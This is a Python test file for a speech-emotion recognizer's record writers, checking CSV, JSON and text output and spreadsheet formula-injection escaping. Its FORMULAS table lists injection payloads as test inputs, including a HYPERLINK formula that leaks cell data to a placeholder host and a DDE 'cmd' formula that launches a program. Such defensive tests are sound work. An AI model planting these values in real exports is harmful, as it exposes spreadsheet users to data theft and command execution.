"""What became of many recordings, judged one by one and written down; through the command line see test_main."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any

import pytest

from ser_core import records
from ser_core.emotions import LABELS
from ser_core.errors import NoAudio
from ser_core.records import Record
from tests import bundles, sounds

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from ser_core.prediction import Prediction


@pytest.fixture
def answer() -> Prediction:
    return bundles.recognizer().predict(sounds.voice(2.0), 16_000)


def as_csv(*rows: Record) -> str:
    out = io.StringIO()
    records.write_csv(rows, out)
    return out.getvalue()


# Judging.


def test_a_file_is_judged_under_its_path_or_another_name(tmp_path: Path) -> None:
    recognizer, path = bundles.recognizer(), str(sounds.write(tmp_path, sounds.voice(2.0), 16_000))
    record = records.judge(recognizer, path)
    assert (record.source, record.error) == (path, None)
    assert record.prediction is not None
    assert record.prediction.probabilities == recognizer.predict(path).probabilities
    assert records.judge(recognizer, path, "mine.wav").source == "mine.wav"
    assert records.judge(recognizer, path, "").source == ""


def test_a_file_that_can_not_be_judged_is_told_and_stops_nothing(tmp_path: Path) -> None:
    path = str(tmp_path / "none.wav")
    record = records.judge(bundles.recognizer(), path, "mine.wav")
    assert record == Record("mine.wav", None, "There is no file none.wav. Check its name, or record something.")
    assert record.to_dict() == {"source": "mine.wav", "error": record.error}


def test_what_is_unforeseen_is_raised() -> None:
    class Broken:
        def __init__(self, error: Exception) -> None:
            self.error = error

        def predict(self, path: str) -> Any:
            raise self.error

    foreseen: Any = Broken(NoAudio("Nothing."))
    unforeseen: Any = Broken(RuntimeError("the network"))
    assert records.judge(foreseen, "a.wav").error == "Nothing."
    with pytest.raises(RuntimeError, match="the network"):
        records.judge(unforeseen, "a.wav")


# Formats.


@pytest.mark.parametrize("form", ["text", "json", "jsonl", "csv"])
def test_answers_are_written_as_they_come(form: str) -> None:
    class Out(io.StringIO):
        """Standard output with a buffer in front of it."""

        flushed = ""

        def flush(self) -> None:
            self.flushed = self.getvalue()

    def come() -> Iterator[Record]:
        for number in range(3):
            assert all(f"{earlier}.wav" in out.flushed for earlier in range(number))
            yield Record(f"{number}.wav", None, "Nobody listens.")

    out = Out()
    records.WRITERS[form](come(), out)
    assert "2.wav" in out.flushed


def test_nothing_is_an_empty_list_an_empty_text_and_a_bare_header() -> None:
    written = {}
    for form, write in records.WRITERS.items():
        out = io.StringIO()
        write([], out)
        written[form] = out.getvalue()
    assert json.loads(written["json"]) == []
    assert written["text"] == written["jsonl"] == ""
    assert next(csv.reader([written["csv"]])) == list(records.CSV_COLUMNS)


def test_numbers_in_the_csv_are_bare_and_come_back_to_the_bit(answer: Prediction) -> None:
    table = as_csv(Record("a.wav", answer, None))
    header, row = table.splitlines()
    assert all(cell.startswith('"') and cell.endswith('"') for cell in header.split(","))
    (cells,) = csv.reader([row], quoting=csv.QUOTE_NONNUMERIC)
    values: dict[str, Any] = dict(zip(records.CSV_COLUMNS, cells, strict=True))
    assert {label: values[label] for label in LABELS} == answer.probabilities
    assert (values["source"], values["duration_s"], values["error"]) == ("a.wav", 2.0, "")


# A stranger's file name in a spreadsheet.

FORMULAS = {
    '=HYPERLINK("http://x/?"&A1)': '\'=HYPERLINK("http://x/?"&A1)',
    "=cmd|'/C calc'!A0": "'=cmd|'/C calc'!A0",
    "+1+2.wav": "'+1+2.wav",
    "-1+2.wav": "'-1+2.wav",
    "@SUM(A1).wav": "'@SUM(A1).wav",
    "\t=1+2": r"'\t=1+2",
    "\r=1+2": r"'\r=1+2",
    "\n=1+2": r"'\n=1+2",
}
PLAIN = ["voice.wav", "/home/ann/=1+2.wav", " =1+2", "'=1+2", "a-b+c@d.wav", ""]


@pytest.mark.parametrize(("name", "cell"), [*FORMULAS.items(), *((name, name) for name in PLAIN)])
def test_a_name_can_be_no_formula(name: str, cell: str, answer: Prediction) -> None:
    table = as_csv(Record(name, answer, None), Record(name, None, f"{name} is empty."))
    judged, failed = csv.DictReader(io.StringIO(table))
    assert judged["source"] == failed["source"] == cell
    assert failed["error"] == f"{cell} is empty."
    assert (judged["error"], failed["state"]) == ("", "")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for value in judged.values())


def test_a_name_can_start_no_cell_of_its_own() -> None:
    """Also for a program that splits at semicolons, as Excel does where the comma stands in numbers."""
    name = 'a";=1+2;,=1+2'
    table = as_csv(Record(name, None, "Empty."))
    for separator in (",", ";"):
        rows = list(csv.reader(io.StringIO(table), delimiter=separator))
        assert len(rows) == 2
        assert rows[1][0].startswith(name)
        assert not any(cell.startswith("=") for cell in rows[1])


@pytest.mark.parametrize("name", FORMULAS)
def test_json_keeps_the_name(name: str) -> None:
    for form in ("json", "jsonl"):
        out = io.StringIO()
        records.WRITERS[form]([Record(name, None, "Empty.")], out)
        told = json.loads(out.getvalue())
        assert (told[0] if form == "json" else told)["source"] == name
